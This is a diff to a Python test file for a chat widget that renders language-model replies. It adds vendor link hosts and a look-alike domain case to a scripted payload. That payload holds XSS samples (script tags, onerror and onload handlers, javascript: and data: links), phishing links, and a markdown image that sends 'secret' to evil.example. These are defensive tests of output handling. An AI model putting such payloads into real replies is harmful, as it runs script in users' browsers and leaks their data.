@@ -19,7 +19,10 @@ PAYLOAD = ("Расчёт выше показывает память под ве�
            "<script>window.__pwned_script = true</script> <img src=x onerror=\"window.__pwned_img = true\"> "
            "<svg onload=\"window.__pwned_svg = true\"></svg> ![x](http://evil.example/?q=secret) "
            "[phish](https://evil.example/login) [js](javascript:window.__pwned_js=true) "
-           "[data](data:text/html,<script>window.__pwned_data=true</script>) [guide](/demo)")
+           "[data](data:text/html,<script>window.__pwned_data=true</script>) [guide](/demo) "
+           "[shop](https://shop.vendor.example/h100) [eu](https://eu.shop.vendor.example/a) "
+           "[lookalike](https://shop.vendor.example.evil.example/b)")
+VENDOR = "shop.vendor.example"  # settings.server.link_hosts: the widget learns it from /api/config
 FLAGS = ["__pwned_script", "__pwned_img", "__pwned_svg", "__pwned_js", "__pwned_data"]
 
 
@@ -37,6 +40,7 @@ def widget_run(kb_settings, kb_retriever, tmp_path_factory):
     settings = kb_settings.model_copy(deep=True)
     settings.leads.database_url = f"sqlite:///{tmp / 'leads.sqlite3'}"
     settings.faq.cache_path = tmp / "faq.json"
+    settings.server.link_hosts = [VENDOR]
     assistant = Assistant(settings, backend=ScriptedBackend([PAYLOAD]), retriever=kb_retriever)
     # This tests the widget layer alone: the server-side guard would already drop the foreign links
     # (tested in tests/assistant/test_guard.py), so it is switched off to let the payload through.
@@ -99,11 +103,15 @@ def test_no_external_requests(widget_run, case):
 
 
 def test_only_allow_listed_links(widget_run, case):
-    case.set("widget-allow-listed-links", "LLM05", "only links to the widget's own server become clickable; "
-                                                   "evil.example, javascript: and data: stay plain text")
-    case.evidence_of(f"links={widget_run['links']}")
-    assert widget_run["links"], "the allow-listed [guide](/demo) link was not rendered (over-stripping)"
-    assert all(urlparse(h).scheme in ("http", "https") and h.startswith(widget_run["origin"] + "/")
-               for h in widget_run["links"]), widget_run["links"]
+    case.set("widget-allow-listed-links", "LLM05", "only links to the widget's own server and the vendor's hosts "
+                                                   "(link_hosts from /api/config, subdomains too) become clickable; "
+                                                   "evil.example, a look-alike host, javascript: and data: stay text")
+    case.evidence_of(f"links={widget_run['links']}; shown: {widget_run['expl'][-300:]}")
+    links = widget_run["links"]
+    assert any(h.startswith(widget_run["origin"] + "/") for h in links), "[guide](/demo) not rendered (over-stripping)"
+    assert f"https://{VENDOR}/h100" in links and f"https://eu.{VENDOR}/a" in links, "the vendor's hosts stay text"
+    assert all(urlparse(h).scheme in ("http", "https") and (h.startswith(widget_run["origin"] + "/") or
+                                                            urlparse(h).hostname in (VENDOR, f"eu.{VENDOR}"))
+               for h in links), links
     assert "evil.example" not in " ".join(widget_run["links"]) and "evil.example" not in widget_run["expl"]
 
